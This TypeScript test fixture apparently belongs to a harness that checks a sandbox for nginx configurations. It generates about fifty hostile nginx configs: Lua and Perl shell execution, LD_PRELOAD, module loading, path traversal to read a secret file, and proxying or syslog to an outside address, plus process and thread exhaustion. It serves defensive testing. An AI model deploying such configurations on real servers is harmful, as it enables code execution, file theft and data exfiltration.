/** nginx configurations that try to run programs, to read and write files of the machine, and to reach other addresses. */

import type { ConfigTree } from '../../harness/model/index.ts'

export interface Bait {
  /** A world-writable folder: no file must appear in it. */
  readonly folder: string
  /** A file in it, whose content must not be disclosed. */
  readonly secret: string
  /** `host:port` of a listener that must get no connection and no datagram. */
  readonly outside: string
}

const SERVER = 'server { listen 80; location / { proxy_pass http://app; } }'

export function hostile({ folder, secret, outside }: Bait): Readonly<Record<string, ConfigTree>> {
  const mark = `${folder}/marker`
  const http = (inside: string): ConfigTree => ({ 'nginx.conf': `events { }\nhttp {\n${inside}\n${SERVER}\n}\n` })
  const main = (inside: string): ConfigTree => ({ 'nginx.conf': `${inside}\nevents { }\nhttp { ${SERVER} }\n` })
  const location = (inside: string): ConfigTree => ({
    'nginx.conf': `events { }\nhttp { server { listen 80; location / { ${inside} } location /x { proxy_pass http://app; } } }\n`,
  })
  return {
    'load_module, a library of its own': main(`load_module ${mark}.so;`),
    'load_module, up from the sandbox': main('load_module ../../../../../evil.so;'),
    'error_log to a file': main(`error_log ${mark} debug;`),
    'error_log behind a brace that belongs to a word': http(`log_format x "\${{"; error_log ${mark} debug;`),
    'access_log to a file': http(`access_log ${mark};`),
    'access_log, a path of variables': location(`set $d ${folder}; access_log $d/marker; proxy_pass http://app;`),
    'error_log and access_log by syslog': http(
      `error_log syslog:server=${outside}; access_log syslog:server=${outside};`,
    ),
    'pid and lock files': main(`pid ${mark}; lock_file ${mark}.lock;`),
    'temporary files': http(`client_body_temp_path ${mark}; proxy_temp_path ${mark}2; fastcgi_temp_path ${mark}3;`),
    'a cache': http(`proxy_cache_path ${mark} keys_zone=a:1m;`),
    proxy_store: location(`proxy_store ${mark}; proxy_pass http://app;`),
    'proxy_store by root': location(`root ${folder}; proxy_store on; proxy_pass http://app;`),
    'files by PUT': location(`root ${folder}; dav_methods PUT; create_full_put_path on;`),
    'alias to a folder': location(`alias ${folder}/;`),
    'root with a rewrite up': location(`root /tmp; rewrite ^ /../../../../../..${secret} break;`),
    'root of pieces': location(`set $d .; root $d$d/$d$d/$d$d/$d$d/$d$d; rewrite ^ ${secret} break;`),
    'try_files with the secret': location(`root /; try_files ${secret} =404;`),
    'include of the secret': http(`include ${secret};`),
    'include of the secret, up': http(`include ../../../../../../../../..${secret};`),
    'include by a mask': http(`include ../../../../../../../../..${folder}/secre*;`),
    'include in a map': http(`map $uri $x { include ${secret}; }`),
    passwords: location(`auth_basic x; auth_basic_user_file ${secret}; proxy_pass http://app;`),
    certificates: http(`ssl_certificate ${secret}; ssl_certificate_key ${secret}; ssl_trusted_certificate ${secret};`),
    'certificate in a variable': http(`ssl_certificate $cookie_x; ssl_certificate_key data:$cookie_x;`),
    Lua: location(`content_by_lua_block { os.execute("touch ${mark}") } proxy_pass http://app;`),
    'Lua at the start': http(`init_by_lua 'os.execute("touch ${mark}")'; lua_package_path "${folder}/?.lua";`),
    Perl: http(`perl_modules ${folder}; perl_set $x 'sub { system("touch ${mark}"); }';`),
    JavaScript: http(`js_path ${folder}; js_import ${mark}.js; js_set $x main.f;`),
    'an engine of OpenSSL': main(`ssl_engine ${mark};`),
    environment: main(`env LD_PRELOAD=${mark}.so; env SECRET;`),
    stream: main(`stream { server { listen unix:${mark}; proxy_pass ${outside}; } }`),
    mail: main(`mail { auth_http ${outside}; server { listen unix:${mark}; protocol imap; } }`),
    'a socket of its own': {
      'nginx.conf': `events { }\nhttp { server { listen unix:${mark}; location / { proxy_pass http://app; } } }\n`,
    },
    'a backend by address': location(`proxy_pass http://${outside};`),
    'a backend of pieces': location(`set $s ht; set $t tp://${outside}; proxy_pass $s$t/;`),
    'a backend with a made-up scheme': location(`set $b "\${scheme}://${outside}"; proxy_pass $b;`),
    'a backend from the request': location(`proxy_pass http://$arg_to$uri?x=${outside};`),
    'a backend by name': location(`resolver ${outside}; set $n example.com; proxy_pass http://$n/;`),
    'a name as a whole value': location(
      `resolver ${outside}; set $a "\${n}"; set $n ${outside}; proxy_pass http://$a;`,
    ),
    'an upstream': http(
      `resolver ${outside}; upstream app { zone a 64k; server ${outside} max_fails=0; server other.example.com resolve; }`,
    ),
    'FastCGI, uwsgi, SCGI, gRPC, memcached': http(
      `server { listen 80; location /a { fastcgi_pass ${outside}; } location /b { uwsgi_pass ${outside}; } location /c { scgi_pass ${outside}; } location /d { grpc_pass grpc://${outside}; } location /e { set $memcached_key x; memcached_pass ${outside}; } location / { proxy_pass http://app; } }`,
    ),
    'FastCGI by socket': location(`location ~ \\.php$ { fastcgi_pass unix:${mark}; } proxy_pass http://app;`),
    'mirror and auth_request': http(
      `server { listen 80; location / { mirror /m; auth_request /m; proxy_pass http://app; } location /m { internal; proxy_pass http://${outside}; } }`,
    ),
    'a cache of certificates elsewhere': http(
      `ssl_stapling on; ssl_stapling_responder http://${outside}; ssl_ocsp on;`,
    ),
    'thousands of processes': main('worker_processes 5000;'),
    'thousands of threads': main('thread_pool default threads=60000;'),
    'core files': main(`working_directory ${folder}; worker_rlimit_core 100m; debug_points abort;`),
    'a directive that nobody knows': http(`write_marker_to ${mark};`),
    'a telemetry service': http(`otel_exporter { endpoint ${outside}; }`),
  }
}
